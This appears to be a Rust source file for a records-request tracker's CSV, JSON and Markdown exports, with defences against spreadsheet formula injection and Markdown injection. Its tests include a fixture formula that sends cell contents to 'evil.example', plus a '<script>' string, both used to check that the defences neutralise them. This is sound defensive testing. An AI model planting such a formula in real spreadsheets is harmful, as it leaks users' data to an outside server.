@@ -1,0 +1,839 @@
+//! The flat exports of request rows: CSV for spreadsheets, JSON for scripts and Markdown for
+//! newsletters and issue trackers, plus the generic CSV and Markdown tables that every listing
+//! command reuses for `--format csv|markdown`.
+//!
+//! Everything here is pure: rows in, one `String` out. The caller fills [`ReportRow`] from the
+//! database and decides "today"; nothing here reads the clock.
+
+use std::borrow::Cow;
+
+use chrono::NaiveDate;
+use serde::{Deserialize, Serialize};
+
+/// One request as it appears in every export. The JSON export is an array of these, with these
+/// snake_case keys; the CSV export has one column per field, in this order.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ReportRow {
+    pub id: i64,
+    pub uid: String,
+    /// The agency's slug, e.g. `mecklenburg-so-nc`.
+    pub agency: String,
+    pub agency_name: String,
+    pub state: String,
+    pub batch: Option<String>,
+    pub title: String,
+    pub template: String,
+    pub status: String,
+    pub filed_on: Option<NaiveDate>,
+    pub due_on: Option<NaiveDate>,
+    /// Which clock `due_on` belongs to: "response", "ack", "certify", "followup",
+    /// "appeal-window", "appeal-decision".
+    pub due_clock: Option<String>,
+    /// "overdue", "follow-up", "ack-overdue", "appeal-deadline", "needs-review".
+    pub flag: Option<String>,
+    /// Business days late.
+    pub days_overdue: Option<i64>,
+    pub calendar_days_overdue: Option<i64>,
+    pub paused_days: i64,
+    pub tracking_number: Option<String>,
+    /// Dollars.
+    pub fees_requested: Option<f64>,
+    /// Dollars.
+    pub fees_paid: Option<f64>,
+    pub last_event: Option<String>,
+    pub last_event_on: Option<NaiveDate>,
+    /// "send follow-up", "wait: due 2026-12-03", "pay or contest fee", ...
+    pub next_action: Option<String>,
+    pub citation: Option<String>,
+}
+
+/// One open deadline, for the calendar export.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Deadline {
+    pub request_id: i64,
+    pub request_uid: String,
+    /// "response", "ack", "certify", "followup", "appeal-window", "appeal-decision".
+    pub clock: String,
+    pub due_on: NaiveDate,
+    pub agency_name: String,
+    pub state: String,
+    pub title: String,
+    pub citation: Option<String>,
+    /// False for a follow-up target the law does not set (our own reminder).
+    pub statutory: bool,
+}
+
+/// How a CSV column is guarded against formula injection.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Kind {
+    /// Free text (names, titles, notes, and the dates, which are text to a CSV reader): a
+    /// leading formula character is neutralised.
+    Text,
+    /// A number we formatted ourselves: left alone so that `-3` stays a number.
+    Number,
+}
+
+/// The CSV columns of [`to_csv`], in [`ReportRow`] field order (a test checks that the names
+/// match the JSON keys).
+const CSV_COLUMNS: &[(&str, Kind)] = &[
+    ("id", Kind::Number),
+    ("uid", Kind::Text),
+    ("agency", Kind::Text),
+    ("agency_name", Kind::Text),
+    ("state", Kind::Text),
+    ("batch", Kind::Text),
+    ("title", Kind::Text),
+    ("template", Kind::Text),
+    ("status", Kind::Text),
+    ("filed_on", Kind::Text),
+    ("due_on", Kind::Text),
+    ("due_clock", Kind::Text),
+    ("flag", Kind::Text),
+    ("days_overdue", Kind::Number),
+    ("calendar_days_overdue", Kind::Number),
+    ("paused_days", Kind::Number),
+    ("tracking_number", Kind::Text),
+    ("fees_requested", Kind::Number),
+    ("fees_paid", Kind::Number),
+    ("last_event", Kind::Text),
+    ("last_event_on", Kind::Text),
+    ("next_action", Kind::Text),
+    ("citation", Kind::Text),
+];
+
+fn opt_str(v: &Option<String>) -> String {
+    v.clone().unwrap_or_default()
+}
+
+fn opt_date(v: Option<NaiveDate>) -> String {
+    v.map(|d| d.format("%Y-%m-%d").to_string())
+        .unwrap_or_default()
+}
+
+fn opt_int(v: Option<i64>) -> String {
+    v.map(|n| n.to_string()).unwrap_or_default()
+}
+
+/// Dollars with cents, without a currency sign or thousands separator, so that a spreadsheet
+/// reads the cell as a number. A non-finite amount (never written by docket) is left empty
+/// rather than written as `NaN`.
+fn opt_dollars(v: Option<f64>) -> String {
+    match v {
+        Some(x) if x.is_finite() => format!("{x:.2}"),
+        _ => String::new(),
+    }
+}
+
+fn csv_cells(r: &ReportRow) -> Vec<String> {
+    vec![
+        r.id.to_string(),
+        r.uid.clone(),
+        r.agency.clone(),
+        r.agency_name.clone(),
+        r.state.clone(),
+        opt_str(&r.batch),
+        r.title.clone(),
+        r.template.clone(),
+        r.status.clone(),
+        opt_date(r.filed_on),
+        opt_date(r.due_on),
+        opt_str(&r.due_clock),
+        opt_str(&r.flag),
+        opt_int(r.days_overdue),
+        opt_int(r.calendar_days_overdue),
+        r.paused_days.to_string(),
+        opt_str(&r.tracking_number),
+        opt_dollars(r.fees_requested),
+        opt_dollars(r.fees_paid),
+        opt_str(&r.last_event),
+        opt_date(r.last_event_on),
+        opt_str(&r.next_action),
+        opt_str(&r.citation),
+    ]
+}
+
+/// Prefixes a single quote to a cell that a spreadsheet would otherwise run as a formula
+/// (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return). Agency replies and titles are
+/// typed or pasted by people, and a shared sheet must not call out to anyone's server.
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
+        _ => Cow::Borrowed(cell),
+    }
+}
+
+/// A plain decimal number as Rust prints one (`-3`, `12.50`): such a cell can be no formula, and
+/// quoting it would turn a number into text in the spreadsheet.
+fn is_plain_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix('-').unwrap_or(cell);
+    let (int, frac) = match digits.split_once('.') {
+        Some((i, f)) => (i, Some(f)),
+        None => (digits, None),
+    };
+    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    all_digits(int) && frac.is_none_or(all_digits)
+}
+
+/// Writes an RFC 4180 table: CRLF line endings, fields quoted only where needed (comma, quote,
+/// CR or LF inside). Rows are padded with empty cells to the header's width; cells beyond it
+/// are dropped, so every record has the same number of fields.
+fn write_csv(headers: &[&str], rows: impl Iterator<Item = Vec<String>>) -> String {
+    let mut w = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .quote_style(csv::QuoteStyle::Necessary)
+        .from_writer(Vec::new());
+    // Writing to a Vec<u8> cannot fail: the only errors the writer reports are I/O errors of
+    // the sink and unequal record lengths, and every record is cut to the header's width.
+    w.write_record(headers.iter().map(|h| neutralise(h).into_owned()))
+        .expect("writing CSV to memory cannot fail");
+    for mut row in rows {
+        row.resize(headers.len(), String::new());
+        w.write_record(&row)
+            .expect("writing CSV to memory cannot fail");
+    }
+    let bytes = w.into_inner().expect("flushing CSV to memory cannot fail");
+    // Every cell was a valid `String`, and the writer only adds ASCII quotes and separators.
+    String::from_utf8(bytes).expect("CSV built from Strings is UTF-8")
+}
+
+/// All request rows as CSV, one column per [`ReportRow`] field (header = the JSON keys). Text
+/// cells that start like a formula get a leading `'`; numeric columns (`id`, days, fees) are
+/// never touched, so negative numbers stay numbers. Fees are dollars with two decimals.
+pub fn to_csv(rows: &[ReportRow]) -> String {
+    let headers: Vec<&str> = CSV_COLUMNS.iter().map(|(name, _)| *name).collect();
+    write_csv(
+        &headers,
+        rows.iter().map(|r| {
+            csv_cells(r)
+                .into_iter()
+                .zip(CSV_COLUMNS)
+                .map(|(cell, (_, kind))| match kind {
+                    Kind::Number => cell,
+                    Kind::Text => neutralise(&cell).into_owned(),
+                })
+                .collect()
+        }),
+    )
+}
+
+/// A generic CSV table for the listing commands, with the same RFC 4180 layout and formula
+/// guard as [`to_csv`]. It cannot know which columns are numeric, so a cell that is a plain
+/// decimal number (`-3`, `12.50`) is left alone and every other cell starting with `=`, `+`,
+/// `-`, `@`, tab or CR gets a leading `'`.
+pub fn csv_table(headers: &[&str], rows: &[Vec<String>]) -> String {
+    write_csv(
+        headers,
+        rows.iter().map(|row| {
+            row.iter()
+                .map(|cell| {
+                    if is_plain_number(cell) {
+                        cell.clone()
+                    } else {
+                        neutralise(cell).into_owned()
+                    }
+                })
+                .collect()
+        }),
+    )
+}
+
+/// All request rows as a pretty-printed JSON array of [`ReportRow`] objects: snake_case keys,
+/// ISO dates (`2026-12-03`), `null` for anything absent. Ends with a newline.
+pub fn to_json(rows: &[ReportRow]) -> String {
+    // Plain structs of strings, numbers and dates always serialise (a non-finite fee becomes
+    // null), so there is no error to hand back.
+    let mut out = serde_json::to_string_pretty(rows).expect("ReportRow always serialises");
+    out.push('\n');
+    out
+}
+
+/// Makes a cell safe inside a GitHub-flavoured Markdown table: `|` would end the cell and a
+/// newline the row; `*`, `_`, `` ` ``, `[`, `]`, `~` and `\` could turn a title into emphasis,
+/// code or a link, and `<` before a letter, `/`, `!` or `?` could open raw HTML or an autolink.
+/// Each gets a backslash (CommonMark lets any ASCII punctuation be escaped); a lone `<` as in
+/// `(n<5)` stays readable. Line breaks become `<br>`, which GitHub renders inside a cell.
+pub fn escape_markdown(cell: &str) -> String {
+    let mut out = String::with_capacity(cell.len());
+    let mut chars = cell.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' | '|' | '*' | '_' | '`' | '[' | ']' | '~' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '<' if chars
+                .peek()
+                .is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, '/' | '!' | '?')) =>
+            {
+                out.push_str("\\<");
+            }
+            '\r' => {
+                if chars.peek() == Some(&'\n') {
+                    chars.next();
+                }
+                out.push_str("<br>");
+            }
+            '\n' => out.push_str("<br>"),
+            c if c.is_control() => out.push(' '),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Align {
+    Left,
+    Right,
+}
+
+/// A pipe table padded so that the raw Markdown lines up too (by character count; wide glyphs
+/// may still wobble, which no renderer minds).
+fn write_markdown(headers: &[&str], aligns: &[Align], rows: &[Vec<String>]) -> String {
+    let head: Vec<String> = headers.iter().map(|h| escape_markdown(h)).collect();
+    let body: Vec<Vec<String>> = rows
+        .iter()
+        .map(|row| {
+            (0..headers.len())
+                .map(|i| row.get(i).map(|c| escape_markdown(c)).unwrap_or_default())
+                .collect()
+        })
+        .collect();
+    let width = |i: usize| {
+        body.iter()
+            .map(|r| r[i].chars().count())
+            .chain(std::iter::once(head[i].chars().count()))
+            .max()
+            .unwrap_or(0)
+            .max(3)
+    };
+    let widths: Vec<usize> = (0..headers.len()).map(width).collect();
+    let align = |i: usize| aligns.get(i).copied().unwrap_or(Align::Left);
+
+    let line = |cells: &[String]| {
+        let mut s = String::from("|");
+        for (i, c) in cells.iter().enumerate() {
+            let pad = widths[i].saturating_sub(c.chars().count());
+            s.push(' ');
+            if align(i) == Align::Right {
+                s.push_str(&" ".repeat(pad));
+                s.push_str(c);
+            } else {
+                s.push_str(c);
+                s.push_str(&" ".repeat(pad));
+            }
+            s.push_str(" |");
+        }
+        s.push('\n');
+        s
+    };
+
+    let mut out = line(&head);
+    out.push('|');
+    for (i, w) in widths.iter().enumerate() {
+        match align(i) {
+            Align::Left => out.push_str(&format!(" {} |", "-".repeat(*w))),
+            Align::Right => out.push_str(&format!(" {}: |", "-".repeat(w - 1))),
+        }
+    }
+    out.push('\n');
+    for row in &body {
+        out.push_str(&line(row));
+    }
+    out
+}
+
+/// A cell that reads as a figure: a plain number, a percentage, or `n/a`.
+fn is_figure(cell: &str) -> bool {
+    cell == "n/a" || is_plain_number(cell.strip_suffix('%').unwrap_or(cell))
+}
+
+/// A generic GitHub-flavoured Markdown pipe table; every cell (and header) is escaped with
+/// [`escape_markdown`]. A column whose non-empty cells are all figures (numbers, percentages,
+/// `n/a`) is right-aligned so the digits line up. Short rows are padded with empty cells;
+/// cells beyond the headers are dropped.
+pub fn markdown_table(headers: &[&str], rows: &[Vec<String>]) -> String {
+    let aligns: Vec<Align> = (0..headers.len())
+        .map(|i| {
+            let mut cells = rows
+                .iter()
+                .filter_map(|r| r.get(i))
+                .filter(|c| !c.is_empty())
+                .peekable();
+            if cells.peek().is_some() && cells.all(|c| is_figure(c)) {
+                Align::Right
+            } else {
+                Align::Left
+            }
+        })
+        .collect();
+    write_markdown(headers, &aligns, rows)
+}
+
+/// The request rows as a Markdown table for a newsletter or an issue: agency, state, title,
+/// status, filed, due, flag and business days late (right-aligned).
+pub fn to_markdown(rows: &[ReportRow]) -> String {
+    const HEADERS: [&str; 8] = [
+        "Agency",
+        "State",
+        "Title",
+        "Status",
+        "Filed",
+        "Due",
+        "Flag",
+        "Days late",
+    ];
+    const ALIGNS: [Align; 8] = [
+        Align::Left,
+        Align::Left,
+        Align::Left,
+        Align::Left,
+        Align::Left,
+        Align::Left,
+        Align::Left,
+        Align::Right,
+    ];
+    let cells: Vec<Vec<String>> = rows
+        .iter()
+        .map(|r| {
+            vec![
+                r.agency_name.clone(),
+                r.state.clone(),
+                r.title.clone(),
+                r.status.clone(),
+                opt_date(r.filed_on),
+                opt_date(r.due_on),
+                opt_str(&r.flag),
+                opt_int(r.days_overdue),
+            ]
+        })
+        .collect();
+    write_markdown(&HEADERS, &ALIGNS, &cells)
+}
+
+/// A fixed set of four rows shared by the snapshot tests of the Markdown and HTML exports: one
+/// overdue with a fee, one follow-up, one completed, one draft, with text that needs escaping.
+#[cfg(test)]
+pub(crate) fn sample_rows() -> Vec<ReportRow> {
+    let d = |s: &str| NaiveDate::parse_from_str(s, "%Y-%m-%d").ok();
+    vec![
+        ReportRow {
+            id: 1,
+            uid: "01937a4e-0000-7000-8000-000000000001".into(),
+            agency: "mecklenburg-so-nc".into(),
+            agency_name: "Mecklenburg County Sheriff's Office".into(),
+            state: "NC".into(),
+            batch: Some("287g-2026".into()),
+            title: "287(g) agreement & SOPs".into(),
+            template: "287g-records".into(),
+            status: "fee-requested".into(),
+            filed_on: d("2026-10-01"),
+            due_on: d("2026-11-02"),
+            due_clock: Some("response".into()),
+            flag: Some("overdue".into()),
+            days_overdue: Some(7),
+            calendar_days_overdue: Some(9),
+            paused_days: 3,
+            tracking_number: Some("PRR-2026-0412".into()),
+            fees_requested: Some(1250.5),
+            fees_paid: Some(0.0),
+            last_event: Some("fee".into()),
+            last_event_on: d("2026-10-20"),
+            next_action: Some("pay or contest fee".into()),
+            citation: Some("N.C. Gen. Stat. § 132-6".into()),
+        },
+        ReportRow {
+            id: 2,
+            uid: "01937a4e-0000-7000-8000-000000000002".into(),
+            agency: "harris-so-tx".into(),
+            agency_name: "Harris County Sheriff's Office".into(),
+            state: "TX".into(),
+            batch: Some("287g-2026".into()),
+            title: "Detainer logs | 2025 <all>".into(),
+            template: "287g-records".into(),
+            status: "acknowledged".into(),
+            filed_on: d("2026-10-05"),
+            due_on: d("2026-11-06"),
+            due_clock: Some("followup".into()),
+            flag: Some("follow-up".into()),
+            days_overdue: Some(2),
+            calendar_days_overdue: Some(4),
+            paused_days: 0,
+            tracking_number: None,
+            fees_requested: None,
+            fees_paid: None,
+            last_event: Some("ack".into()),
+            last_event_on: d("2026-10-08"),
+            next_action: Some("send follow-up".into()),
+            citation: Some("Tex. Gov't Code § 552.221".into()),
+        },
+        ReportRow {
+            id: 3,
+            uid: "01937a4e-0000-7000-8000-000000000003".into(),
+            agency: "cobb-so-ga".into(),
+            agency_name: "Cobb County Sheriff's Office".into(),
+            state: "GA".into(),
+            batch: None,
+            title: "Jail booking data\n(ICE holds)".into(),
+            template: "jail-data".into(),
+            status: "completed".into(),
+            filed_on: d("2026-09-14"),
+            due_on: None,
+            due_clock: None,
+            flag: None,
+            days_overdue: None,
+            calendar_days_overdue: None,
+            paused_days: 0,
+            tracking_number: Some("=HYPERLINK(\"http://x\")".into()),
+            fees_requested: Some(25.0),
+            fees_paid: Some(25.0),
+            last_event: Some("complete".into()),
+            last_event_on: d("2026-09-30"),
+            next_action: None,
+            citation: Some("O.C.G.A. § 50-18-71".into()),
+        },
+        ReportRow {
+            id: 4,
+            uid: "01937a4e-0000-7000-8000-000000000004".into(),
+            agency: "lee-so-fl".into(),
+            agency_name: "Lee County Sheriff's Office".into(),
+            state: "FL".into(),
+            batch: None,
+            title: "Task force MOA".into(),
+            template: "287g-records".into(),
+            status: "draft".into(),
+            filed_on: None,
+            due_on: None,
+            due_clock: None,
+            flag: None,
+            days_overdue: None,
+            calendar_days_overdue: None,
+            paused_days: 0,
+            tracking_number: None,
+            fees_requested: None,
+            fees_paid: None,
+            last_event: None,
+            last_event_on: None,
+            next_action: None,
+            citation: None,
+        },
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(text.as_bytes());
+        let headers = r
+            .headers()
+            .expect("header row")
+            .iter()
+            .map(String::from)
+            .collect();
+        let rows = r
+            .records()
+            .map(|rec| {
+                rec.expect("valid record")
+                    .iter()
+                    .map(String::from)
+                    .collect()
+            })
+            .collect();
+        (headers, rows)
+    }
+
+    /// A row whose every text field is hostile or awkward, and whose numbers are negative.
+    fn hostile_row() -> ReportRow {
+        ReportRow {
+            id: -1,
+            uid: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
+            agency: "+1".into(),
+            agency_name: "-x".into(),
+            state: "@SUM(A1:A9)".into(),
+            batch: Some("\tX".into()),
+            title: "\rX".into(),
+            template: "a, b".into(),
+            status: "say \"hi\"".into(),
+            filed_on: NaiveDate::from_ymd_opt(2026, 1, 2),
+            due_on: None,
+            due_clock: Some("line one\nline two".into()),
+            flag: Some("crlf\r\ninside".into()),
+            days_overdue: Some(-3),
+            calendar_days_overdue: Some(-5),
+            paused_days: -2,
+            tracking_number: Some("'already quoted".into()),
+            fees_requested: Some(-12.5),
+            fees_paid: Some(0.1),
+            last_event: Some(String::new()),
+            last_event_on: NaiveDate::from_ymd_opt(2026, 12, 31),
+            next_action: Some("über — 287(g) ✓".into()),
+            citation: None,
+        }
+    }
+
+    #[test]
+    fn csv_headers_are_the_json_keys_in_field_order() {
+        let json = to_json(&sample_rows()[..1]);
+        let (headers, _) = read_csv(&to_csv(&sample_rows()));
+        assert_eq!(headers.len(), CSV_COLUMNS.len());
+        // Each header is a key of the serialised object, and they come in the same order.
+        let positions: Vec<usize> = headers
+            .iter()
+            .map(|h| {
+                json.find(&format!("\"{h}\": "))
+                    .unwrap_or_else(|| panic!("{h} is no JSON key"))
+            })
+            .collect();
+        assert!(positions.windows(2).all(|w| w[0] < w[1]), "{headers:?}");
+        let v: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
+        assert_eq!(v[0].as_object().map(|o| o.len()), Some(headers.len()));
+    }
+
+    #[test]
+    fn csv_round_trips_every_field_and_neutralises_formulas() {
+        let row = hostile_row();
+        let text = to_csv(std::slice::from_ref(&row));
+        let (headers, rows) = read_csv(&text);
+        assert_eq!(rows.len(), 1);
+        let got: std::collections::HashMap<&str, &str> = headers
+            .iter()
+            .map(String::as_str)
+            .zip(rows[0].iter().map(String::as_str))
+            .collect();
+        let expected: &[(&str, &str)] = &[
+            ("id", "-1"),
+            ("uid", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            ("agency", "'+1"),
+            ("agency_name", "'-x"),
+            ("state", "'@SUM(A1:A9)"),
+            ("batch", "'\tX"),
+            ("title", "'\rX"),
+            ("template", "a, b"),
+            ("status", "say \"hi\""),
+            ("filed_on", "2026-01-02"),
+            ("due_on", ""),
+            ("due_clock", "line one\nline two"),
+            ("flag", "crlf\r\ninside"),
+            // Numeric columns: negative numbers stay numbers.
+            ("days_overdue", "-3"),
+            ("calendar_days_overdue", "-5"),
+            ("paused_days", "-2"),
+            // A leading quote is no formula: left as typed.
+            ("tracking_number", "'already quoted"),
+            ("fees_requested", "-12.50"),
+            ("fees_paid", "0.10"),
+            ("last_event", ""),
+            ("last_event_on", "2026-12-31"),
+            ("next_action", "über — 287(g) ✓"),
+            ("citation", ""),
+        ];
+        assert_eq!(expected.len(), CSV_COLUMNS.len());
+        for (key, want) in expected {
+            assert_eq!(got[key], *want, "column {key}");
+        }
+        // Numbers parse back to the values we put in.
+        assert_eq!(got["fees_requested"].parse::<f64>(), Ok(-12.5));
+        assert_eq!(got["fees_paid"].parse::<f64>(), Ok(0.1));
+    }
+
+    #[test]
+    fn csv_uses_crlf_and_quotes_only_where_needed() {
+        let text = to_csv(&[hostile_row()]);
+        // Header + one record, each ended by CRLF; bare LFs only inside quoted cells.
+        assert!(text.ends_with("\r\n"));
+        assert!(text.starts_with("id,uid,agency,agency_name,state,batch,title,"));
+        assert!(text.contains(",\"a, b\","));
+        assert!(text.contains(",\"say \"\"hi\"\"\","));
+        assert!(text.contains(",-3,-5,-2,"));
+        assert!(text.contains(",-12.50,0.10,"));
+        // Unquoted plain cells.
+        assert!(text.contains(",2026-01-02,,"));
+    }
+
+    #[test]
+    fn csv_of_sample_rows_round_trips_plain_fields() {
+        let rows = sample_rows();
+        let (_, parsed) = read_csv(&to_csv(&rows));
+        assert_eq!(parsed.len(), 4);
+        for (row, cells) in rows.iter().zip(&parsed) {
+            assert_eq!(cells[0], row.id.to_string());
+            assert_eq!(cells[3], row.agency_name);
+            assert_eq!(cells[6], row.title);
+            assert_eq!(cells[9], opt_date(row.filed_on));
+        }
+        // The formula in row 3's tracking number is neutralised.
+        assert_eq!(parsed[2][16], "'=HYPERLINK(\"http://x\")");
+        assert_eq!(parsed[0][17], "1250.50");
+    }
+
+    #[test]
+    fn csv_of_no_rows_is_the_header_alone() {
+        let text = to_csv(&[]);
+        assert_eq!(text.matches("\r\n").count(), 1);
+        let (headers, rows) = read_csv(&text);
+        assert_eq!(headers.len(), 23);
+        assert!(rows.is_empty());
+    }
+
+    #[test]
+    fn csv_table_keeps_numbers_and_neutralises_the_rest() {
+        // cell -> expected cell after a round trip through the csv crate
+        let cases: &[(&str, &str)] = &[
+            ("-3", "-3"),
+            ("12.50", "12.50"),
+            ("-0.5", "-0.5"),
+            ("0", "0"),
+            ("-", "'-"),
+            ("-x", "'-x"),
+            ("+1", "'+1"),
+            ("-1+1", "'-1+1"),
+            ("1.", "1."),
+            ("-.5", "'-.5"),
+            ("=1+1", "'=1+1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tX", "'\tX"),
+            ("\rX", "'\rX"),
+            ("a,b", "a,b"),
+            ("q\"uote", "q\"uote"),
+            ("two\nlines", "two\nlines"),
+            ("", ""),
+        ];
+        let rows: Vec<Vec<String>> = cases
+            .iter()
+            .map(|(c, _)| vec![c.to_string(), "x".into()])
+            .collect();
+        let text = csv_table(&["value", "other"], &rows);
+        let (headers, parsed) = read_csv(&text);
+        assert_eq!(headers, ["value", "other"]);
+        assert_eq!(parsed.len(), cases.len());
+        for ((cell, want), got) in cases.iter().zip(&parsed) {
+            assert_eq!(got[0], *want, "cell {cell:?}");
+            assert_eq!(got[1], "x");
+        }
+    }
+
+    #[test]
+    fn csv_table_pads_short_rows_and_drops_extra_cells() {
+        let text = csv_table(
+            &["a", "b"],
+            &[vec!["1".into()], vec!["1".into(), "2".into(), "3".into()]],
+        );
+        assert_eq!(text, "a,b\r\n1,\r\n1,2\r\n");
+    }
+
+    #[test]
+    fn json_has_snake_case_keys_iso_dates_and_nulls() {
+        let rows = sample_rows();
+        let text = to_json(&rows);
+        let v: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
+        let arr = v.as_array().expect("array");
+        assert_eq!(arr.len(), 4);
+        let first = &arr[0];
+        assert_eq!(first["id"], 1);
+        assert_eq!(first["agency"], "mecklenburg-so-nc");
+        assert_eq!(first["filed_on"], "2026-10-01");
+        assert_eq!(first["due_on"], "2026-11-02");
+        assert_eq!(first["due_clock"], "response");
+        assert_eq!(first["days_overdue"], 7);
+        assert_eq!(first["calendar_days_overdue"], 9);
+        assert_eq!(first["paused_days"], 3);
+        assert_eq!(first["fees_requested"], 1250.5);
+        assert!(first["fees_paid"].is_f64());
+        assert_eq!(first["citation"], "N.C. Gen. Stat. § 132-6");
+        let draft = &arr[3];
+        for key in [
+            "batch",
+            "filed_on",
+            "due_on",
+            "due_clock",
+            "flag",
+            "days_overdue",
+            "calendar_days_overdue",
+            "tracking_number",
+            "fees_requested",
+            "fees_paid",
+            "last_event",
+            "last_event_on",
+            "next_action",
+            "citation",
+        ] {
+            assert!(draft[key].is_null(), "{key} should be null");
+        }
+        assert_eq!(draft.as_object().map(|o| o.len()), Some(23));
+        // And it reads back into the same rows.
+        let back: Vec<ReportRow> = serde_json::from_str(&text).expect("rows");
+        assert_eq!(back, rows);
+        assert!(text.ends_with("]\n"));
+        assert_eq!(to_json(&[]), "[]\n");
+    }
+
+    #[test]
+    fn markdown_escaping() {
+        // input -> escaped cell, worked out from the rules in escape_markdown
+        let cases: &[(&str, &str)] = &[
+            ("plain text", "plain text"),
+            ("a | b", "a \\| b"),
+            ("one\ntwo", "one<br>two"),
+            ("one\r\ntwo\rthree", "one<br>two<br>three"),
+            ("<script>", "\\<script>"),
+            (
+                "</b> <!-- <?x <http://x>",
+                "\\</b> \\<!-- \\<?x \\<http://x>",
+            ),
+            ("(n<5) a < b > c", "(n<5) a < b > c"),
+            ("*bold* _it_", "\\*bold\\* \\_it\\_"),
+            ("[link](x)", "\\[link\\](x)"),
+            ("back\\slash", "back\\\\slash"),
+            ("tab\there", "tab here"),
+            ("§ 132-6 — ok", "§ 132-6 — ok"),
+        ];
+        for (input, want) in cases {
+            assert_eq!(escape_markdown(input), *want, "input {input:?}");
+        }
+    }
+
+    #[test]
+    fn markdown_table_is_a_padded_pipe_table() {
+        let t = markdown_table(
+            &["Name", "N"],
+            &[vec!["a|b".into(), "10".into()], vec!["x".into()]],
+        );
+        // "N" holds only figures: right-aligned.
+        assert_eq!(
+            t,
+            "| Name |   N |\n\
+             | ---- | --: |\n\
+             | a\\|b |  10 |\n\
+             | x    |     |\n"
+        );
+        let t = markdown_table(
+            &["G", "Share", "Note"],
+            &[
+                vec!["a".into(), "67%".into(), "1".into()],
+                vec!["b".into(), "n/a".into(), "x".into()],
+            ],
+        );
+        assert!(t.contains("| --- | ----: | ---- |"), "{t}");
+    }
+
+    #[test]
+    fn markdown_snapshot() {
+        // No module prefix in the file name, so the snapshot survives a rename of the crate.
+        insta::with_settings!({ prepend_module_to_snapshot => false }, {
+            insta::assert_snapshot!("export_markdown_sample", to_markdown(&sample_rows()));
+        });
+    }
+
+    #[test]
+    fn markdown_has_one_line_per_row() {
+        let md = to_markdown(&sample_rows());
+        assert_eq!(md.lines().count(), 2 + 4);
+        for line in md.lines() {
+            assert!(line.starts_with("| ") && line.ends_with(" |"), "{line}");
+        }
+    }
+}
